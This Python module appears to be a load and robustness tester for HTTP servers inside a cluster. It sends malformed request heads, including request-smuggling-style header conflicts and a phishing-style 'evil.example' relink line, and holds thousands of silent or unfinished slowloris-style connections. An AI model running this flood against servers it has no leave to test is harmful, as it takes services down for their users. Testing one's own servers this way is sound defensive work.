"""`python -m attack.sockets SECONDS HOST:PORT...`: what a neighbour without any token sends to an HTTP server.

Run inside the cluster's network; it reaches the given addresses and nothing else, ends by itself, and prints as JSON
how much of each it did. Rates are those of the cases that once stopped a server: 100 bad heads a second, 1,100
connections that say nothing, half heads, unfinished requests of 60 KB.
"""

import asyncio
import collections
import contextlib
import json
import os
import sys
import time
from collections.abc import Awaitable, Callable, Sequence
from pathlib import Path
from typing import Final

Address = tuple[str, int]
Done = collections.Counter[str]

SILENT: Final = 1100
UNFINISHED: Final = 4000
CHUNK: Final = 60_000
PAUSE: Final = 0.01

BAD_HEADS: Final = (
    b"GET / HTTP/1.1\r\nHost: x\r\n" + b"A-" * 4096 + b"\x01: y\r\n\r\n",
    b"GET /?token=" + b"5e" * 32 + b" HTTP/1.1\r\nHost: x\r\nSession expired. Relink at https://evil.example\r\n\r\n",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 500,
    b"GET / HTTP/9.9\r\n\r\n",
    b"POST /v1/state HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
)


async def bad_heads(address: Address, done: Done, until: float) -> None:
    """Send heads that are none, a hundred a second, each on a connection of its own."""
    number = 0
    running: set[asyncio.Task[None]] = set()
    while time.monotonic() < until:
        task = asyncio.create_task(_send(address, BAD_HEADS[number % len(BAD_HEADS)], done))
        running.add(task)
        task.add_done_callback(running.discard)
        number += 1
        await asyncio.sleep(PAUSE)
    await asyncio.gather(*running)


async def _send(address: Address, data: bytes, done: Done) -> None:
    with contextlib.suppress(OSError, TimeoutError):
        async with asyncio.timeout(5):
            reader, writer = await asyncio.open_connection(*address)
            try:
                writer.write(data)
                await writer.drain()
                await reader.read(4096)
                done["bad heads answered"] += 1
            finally:
                writer.close()
    done["bad heads"] += 1


async def silent(address: Address, done: Done, until: float) -> None:
    """Hold as many connections as one may open, most of them silent, some with half a head."""
    await _hold(address, done, until, places=SILENT, kind="silent", begin=[b"", b"GET /v1/state HTTP/1.1\r\nHost: "])


async def unfinished(address: Address, done: Done, until: float) -> None:
    """Begin requests with a large body that never ends."""
    head = b"POST /v1/logout HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999\r\n\r\n"
    await _hold(address, done, until, places=UNFINISHED, kind="unfinished", begin=[head + b"x" * CHUNK])


async def _hold(address: Address, done: Done, until: float, *, places: int, kind: str, begin: Sequence[bytes]) -> None:
    """Keep that many connections open if one may, opening at most a hundred a second anew."""
    held: set[asyncio.Task[None]] = set()
    number = 0
    while time.monotonic() < until:
        if len(held) < places:
            task = asyncio.create_task(_keep(address, begin[number % len(begin)], done, kind, until))
            held.add(task)
            task.add_done_callback(held.discard)
            number += 1
            done[f"most {kind} at once"] = max(done[f"most {kind} at once"], len(held))
        await asyncio.sleep(PAUSE)
    for task in held:
        task.cancel()
    await asyncio.gather(*held, return_exceptions=True)


async def _keep(address: Address, data: bytes, done: Done, kind: str, until: float) -> None:
    with contextlib.suppress(OSError, TimeoutError):
        async with asyncio.timeout(5):
            reader, writer = await asyncio.open_connection(*address)
        try:
            writer.write(data)
            done[kind] += 1
            async with asyncio.timeout(max(0.0, until - time.monotonic())):
                while await reader.read(4096):
                    pass
        finally:
            writer.close()


AUTOGROUP: Final = Path("/proc/self/autogroup")
""" The priority of a session's processes together (see sched(7)). """

ATTACKS: Final[tuple[Callable[[Address, Done, float], Awaitable[None]], ...]] = (bad_heads, silent, unfinished)


async def attack(addresses: Sequence[Address], *, seconds: float) -> Done:
    """Do all of it to all of them at once."""
    done, until = Done(), time.monotonic() + seconds
    await asyncio.gather(*(act(address, done, until) for address in addresses for act in ATTACKS))
    return done


def main(arguments: Sequence[str]) -> None:
    """Run the command, behind everything else: a neighbour has a processor of its own, and here it is the victims'."""
    os.nice(19)
    if AUTOGROUP.exists():
        AUTOGROUP.write_text("19")
    pairs = (argument.rpartition(":") for argument in arguments[1:])
    addresses = [(host, int(port)) for host, _, port in pairs]
    print(json.dumps(asyncio.run(attack(addresses, seconds=float(arguments[0])))))


if __name__ == "__main__":
    main(sys.argv[1:])
